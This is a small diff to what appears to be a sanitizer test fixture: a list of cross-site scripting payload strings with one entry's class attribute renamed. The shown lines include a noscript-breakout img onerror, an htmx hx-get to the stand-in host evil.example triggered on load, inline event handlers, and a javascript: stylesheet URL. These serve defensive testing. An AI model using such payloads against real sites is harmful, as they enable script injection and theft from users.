@@ -53,7 +53,7 @@ MARKUP: Final = (
     "<noscript><p title='</noscript><img src=x onerror=alert(36)>'></noscript>",
     "<p hx-get='//evil.example' hx-trigger=load>x</p>",
     "<div hx-on:click='alert(37)' data-hx-get='/'>x</div>",
-    "<div id=panel class=choosing name=csrfmiddlewaretoken>a second panel</div>",
+    "<div id=panel class=panel-body name=csrfmiddlewaretoken>a second panel</div>",
     "<!--[if gte IE 4]><script>alert(38)</script><![endif]-->",
     "<?xml-stylesheet href='javascript:alert(39)'?>",
     "<x onclick=alert(40) tabindex=1 autofocus>x</x>",
